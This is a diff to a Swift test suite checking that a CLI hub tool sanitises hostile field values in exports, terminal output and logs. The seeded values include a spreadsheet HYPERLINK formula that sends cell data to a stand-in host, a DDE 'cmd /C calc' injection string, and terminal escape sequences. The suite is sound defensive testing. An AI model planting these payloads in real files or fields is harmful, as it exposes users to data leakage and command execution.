@@ -8,12 +8,17 @@ import Testing
 /// What a unit's valid token lets an attacker put in front of the office: formulas in an exported ledger,
 /// escape sequences on a clerk's terminal, forged lines in the hub's log. Through the real binary.
 @Suite struct OutputHygieneTests {
-    /// A hub with `items` items assigned to jxj, whose bureau fields hold seeded hostile values (written as
-    /// the hub's proxy entries, which is what a pushed bureau write looks like once stored).
+    /// A hub with `items` items assigned to jxj (imported from the office's list), whose bureau fields hold
+    /// seeded hostile values written by jxj and brought in with `banli apply`, as a sync would. Only the
+    /// binary touches the store.
     func hub(items: Int, seed: UInt64, unitName: String = "市经信局") throws -> (BanliProcess, [LocalWrite]) {
         let cli = BanliProcess(directory: try BanliProcess.temporaryDirectory(), environment: ["BANLI_TODAY": "2025-11-30"])
         try cli.ok(["hub", "init", "--store", "hub.db"])
         try cli.ok(["hub", "add-unit", "jxj", "--name", unitName, "--store", "hub.db", "--token-file", "jxj.token"])
+        let list = "编号,类别,年度,标题,主办单位\n" + (1...items).map { "\($0),建议,2025,建议\($0),jxj" }.joined(separator: "\n")
+        try list.write(toFile: cli.directory + "/list.csv", atomically: true, encoding: .utf8)
+        try cli.ok(["import", "list.csv", "--store", "hub.db"])
+
         var gen = HostileStrings(seed: seed)
         func line() -> String {
             let s = gen.nextLine().trimmedWhitespace
@@ -21,19 +26,22 @@ import Testing
         }
         var writes: [LocalWrite] = []
         for n in 1...items {
-            let item = EntityKey.item(id: "rd-2025-\(n)"), a = EntityKey.assignment(item: "rd-2025-\(n)", site: "jxj")
+            let a = EntityKey.assignment(item: "rd-2025-\(n)", site: "jxj")
             let text = gen.next()
             writes += [
-                LocalWrite(entity: item, field: "kind", value: .string("suggestion")), LocalWrite(entity: item, field: "number", value: .int(Int64(n))),
-                LocalWrite(entity: item, field: "year", value: .int(2025)), LocalWrite(entity: item, field: "title", value: .string(line())),
-                LocalWrite(entity: a, field: "role", value: .string("lead")), LocalWrite(entity: a, field: "active", value: .bool(true)),
                 LocalWrite(entity: a, field: "replyNumber", value: .string(n == 1 ? #"=HYPERLINK("http://x.example/?"&A1,"详情")"# : line())),
-                LocalWrite(entity: a, field: "replySigner", value: .string(line())),
+                LocalWrite(entity: a, field: "replySigner", value: .string(n == 1 ? "@SUM(1+1)*cmd|' /C calc'!A0" : line())),
                 LocalWrite(entity: a, field: "handler", value: .string(n == 1 ? "\u{1b}[2J\u{1b}]0;pwned\u{7}王五" : line())),
                 LocalWrite(entity: a, field: "replyText", value: .string(text.trimmedWhitespace.isEmpty ? "-1" : text)),
             ]
         }
-        _ = try Store.open(at: cli.directory + "/hub.db").write(writes)
+        let counter = HybridLogicalClock.pack(milliseconds: Store.nowMilliseconds())
+        let lines = try writes.enumerated().map { i, w in
+            var state = FieldState()
+            state.write(w.value, dot: Dot(site: "jxj", counter: counter + UInt64(i)))
+            return ReplicatedField(entity: w.entity, spec: try FieldCatalogue.require(w.entity.kind, w.field), state: state).jsonLine(hubSite: "hub")
+        }
+        try cli.ok(["apply", "-", "--store", "hub.db"], stdin: lines.joined(separator: "\n") + "\n")
         return (cli, writes)
     }
 
@@ -68,12 +76,16 @@ import Testing
         let commands: [[String]] = [
             ["item", "show", "rd-2025-1"], ["item", "show", "rd-2025-7"], ["item", "list"], ["conflicts"], ["history", "rd-2025-1"],
             ["report", "--year", "2025", "--unit", "jxj"], ["report", "--year", "2025", "--unit", "jxj", "--format", "md"], ["status"], ["dump"],
-            ["dump", "--json"], ["item", "show", "rd-2025-1", "--json"], ["item", "list", "--json"], ["conflicts", "--json"], ["history", "rd-2025-1", "--json"],
+            ["dump", "--json"], ["item", "show", "rd-2025-1", "--json"], ["item", "list", "--json"], ["conflicts", "--json"],
+            ["history", "rd-2025-1", "--json"],
         ]
         for command in commands {
             for store in ["hub.db", "jxj.db"] where store == "hub.db" || command[0] != "status" {
                 let out = try cli.ok(command + ["--store", store])
-                let bad = out.unicodeScalars.filter { $0 != "\n" && TerminalText.isUnsafe($0) }
+                let scalars = Array(out.unicodeScalars)
+                let bad = scalars.indices.filter { i in
+                    scalars[i] != "\n" && TerminalText.isUnsafe(scalars[i]) && !(scalars[i] == "\r" && i + 1 < scalars.count && scalars[i + 1] == "\n")
+                }.map { scalars[$0] }
                 #expect(bad.isEmpty, "banli \(command.joined(separator: " ")) printed \(bad.map { String($0.value, radix: 16) })")
             }
         }
@@ -87,10 +99,20 @@ import Testing
                 Issue.record("no assignment in \(json.canonicalJSON)")
                 continue
             }
-            for w in writes where w.entity == .assignment(item: "rd-2025-\(n)", site: "jxj") && w.field != "active" && w.field != "role" {
+            for w in writes where w.entity == .assignment(item: "rd-2025-\(n)", site: "jxj") {
                 #expect(a[w.field] == w.value, "\(w.field)")
             }
         }
+    }
+
+    @Test func unicodeLineBreaksAreRefusedInOneLineFieldsAndChangeNothing() throws {
+        let (cli, _) = try hub(items: 1, seed: 1)
+        let before = try cli.ok(["dump", "--json", "--store", "hub.db"])
+        for brk in ["\u{2028}", "\u{2029}", "\u{85}"] {
+            let r = try cli.run(["item", "set", "rd-2025-1", "replyNumber", "冶经信函\(brk)12号", "--unit", "jxj", "--store", "hub.db"])
+            #expect(r.status == 2 && r.stderr.contains("takes a single line of text"), "\(brk.debugDescription): \(r.stderr)")
+        }
+        #expect(try cli.ok(["dump", "--json", "--store", "hub.db"]) == before)
     }
 
     @Test func loggedValuesCannotForgeALineOrReachTheTerminal() throws {
